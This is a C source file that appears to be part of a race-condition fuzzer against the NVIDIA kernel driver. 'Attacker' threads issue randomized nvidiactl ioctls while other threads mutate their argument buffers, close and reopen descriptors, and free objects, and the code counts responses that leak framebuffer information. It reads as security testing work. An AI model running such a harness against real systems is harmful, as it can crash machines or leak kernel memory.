// SPDX-License-Identifier: Apache-2.0
/* Calls on arguments that other threads change meanwhile. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "races.h"

static bool call_with(struct attacker *attacker, int fd, uint32_t nr, void *data, size_t bytes)
{
	return ioctl(fd, _IOC(_IOC_READ | _IOC_WRITE, attacker->settings->magic, nr, bytes), data) == 0;
}

/* With arguments of one's own, which no other changes. */
static void alloc_plain(struct attacker *attacker, int fd, const uint32_t handles[3], uint32_t class_id, void *params)
{
	const struct nv_abi *abi = attacker->settings->abi;
	struct rm_ioctl io = rm_alloc_ioctl(abi, VIA_RM64, handles[0], handles[1], handles[2], class_id, params, 0);

	driver_make(attacker->settings, fd, &io);
}

static void free_plain(struct attacker *attacker, int fd, uint32_t client, uint32_t handle)
{
	struct rm_ioctl io = rm_free_ioctl(attacker->settings->abi, client, client, handle);

	driver_make(attacker->settings, fd, &io);
}

/* On any of the files: the driver refuses a client that is on another one, and makes one that is not there. */
static void make_client(struct attacker *attacker, int fd, uint32_t client)
{
	uint8_t device[64] = { 0 }, subdevice[8] = { 0 };

	alloc_plain(attacker, fd, (uint32_t[]){ client, 0, client }, NV01_ROOT_CLIENT, NULL);
	alloc_plain(attacker, fd, (uint32_t[]){ client, client, DEVICE }, NV01_DEVICE_0, device);
	alloc_plain(attacker, fd, (uint32_t[]){ client, DEVICE, SUBDEVICE }, NV20_SUBDEVICE_0, subdevice);
}

void call_make_clients(struct attacker *attacker)
{
	struct shared *shared = attacker->shared;
	uint32_t i;

	for (i = 0; i < FILES; i++)
		make_client(attacker, shared->ctl[i], shared->client[i]);
}

static int any_file(struct attacker *attacker)
{
	return attacker->shared->ctl[below(attacker, FILES)];
}

static uint32_t any_client(struct attacker *attacker)
{
	return attacker->shared->client[below(attacker, FILES)];
}

/* Close a file under the calls of others, and open it again. */
static void reopen(struct attacker *attacker, uint32_t index)
{
	int fresh = driver_open(attacker->settings, "nvidiactl");

	if (fresh < 0)
		return;
	/* At once, so that the number never means another file. */
	dup3(fresh, attacker->shared->ctl[index], O_CLOEXEC);
	close(fresh);
}

/* Room for attempts to come, mostly one object, at times a whole client or file. */
static void give_back(struct attacker *attacker)
{
	uint32_t what = below(attacker, 4096), client = any_client(attacker);
	int fd = any_file(attacker);

	if (what < 2)
		reopen(attacker, what);
	else if (what < 16)
		free_plain(attacker, fd, client, DEVICE);
	else if (what < 24)
		free_plain(attacker, fd, client, client);
	else
		free_plain(attacker, fd, client, FIRST_MEMORY + below(attacker, HANDLES));
	if (what < 48)
		make_client(attacker, fd, client);
}

/* Entries that the two forms of the question do not both use for something else. */
static bool tells_too_much(const struct shared *shared, const struct nv_abi *abi, const uint8_t *list, uint32_t first)
{
	uint32_t i;

	for (i = first; i < LIST_ENTRIES; i++) {
		if ((uint64_t)get32(list + 8 * i, abi->NV2080_CTRL_FB_INFO.data) << 10 > shared->limit)
			return true;
	}
	return false;
}

static void look_for_leaks(struct attacker *attacker)
{
	const struct nv_abi *abi = attacker->settings->abi;
	uint16_t list = abi->NV2080_CTRL_FB_GET_INFO_V2_PARAMS.fbInfoList;
	struct shared *shared = attacker->shared;
	uint32_t i;

	for (i = 0; i < 2; i++) {
		if (tells_too_much(shared, abi, shared->list[i], 0) ||
			tells_too_much(shared, abi, shared->query[i] + list, 2))
			atomic_fetch_add(&shared->leaks, 1);
	}
}

static bool attempt(struct attacker *attacker)
{
	const struct nv_abi *abi = attacker->settings->abi;
	struct shared *shared = attacker->shared;
	int fd = any_file(attacker);
	bool taken;

	switch (below(attacker, 8)) {
	case 0:
	case 1:
		return call_with(attacker, fd, NV_ESC_RM_ALLOC, shared->alloc, abi->NVOS64_PARAMETERS.bytes);
	case 2:
		return call_with(attacker, fd, NV_ESC_RM_ALLOC, shared->alloc, abi->NVOS21_PARAMETERS.bytes);
	case 3:
		return call_with(attacker, fd, NV_ESC_RM_VID_HEAP_CONTROL, shared->heap, abi->NVOS32_PARAMETERS.bytes);
	case 4:
		return call_with(attacker, fd, NV_ESC_RM_DUP_OBJECT, shared->dup, abi->NVOS55_PARAMETERS.bytes);
	case 5:
		taken = call_with(attacker, fd, NV_ESC_RM_CONTROL, shared->control, abi->NVOS54_PARAMETERS.bytes);
		look_for_leaks(attacker);
		return taken;
	default:
		return call_with(attacker, fd, NV_ESC_IOCTL_XFER_CMD, shared->transfer[below(attacker, 2)],
			abi->nv_ioctl_xfer_t.bytes);
	}
}

void call_once(struct attacker *attacker)
{
	struct shared *shared = attacker->shared;

	if (attempt(attacker))
		atomic_fetch_add(&shared->taken, 1);
	atomic_fetch_add(&shared->attempts, 1);
	if (below(attacker, 4) == 0)
		give_back(attacker);
}
